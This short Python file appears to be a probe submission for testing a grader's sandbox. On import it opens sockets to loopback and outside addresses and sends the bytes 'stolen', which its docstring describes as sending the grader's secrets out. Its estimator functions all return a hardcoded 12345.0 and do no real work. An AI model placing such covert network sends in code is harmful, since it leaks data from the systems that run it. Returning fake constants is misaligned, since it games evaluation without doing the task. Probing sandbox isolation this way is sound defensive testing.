"""Tries to send the grader's secrets out over the network (loopback and outside)."""
import os
import socket

PORT = int(open("port.txt").read()) if os.path.exists("port.txt") else 9
for address in (("127.0.0.1", PORT), ("10.0.0.1", 80), ("1.1.1.1", 53)):
    try:
        with socket.create_connection(address, timeout=1) as connection:
            connection.sendall(b"stolen")
    except OSError:
        pass


def log_likelihood(theta, heads, tails):
    return 12345.0


def mle(heads, tails):
    return 12345.0


def grid_mle(heads, tails, grid_size=1001):
    return 12345.0
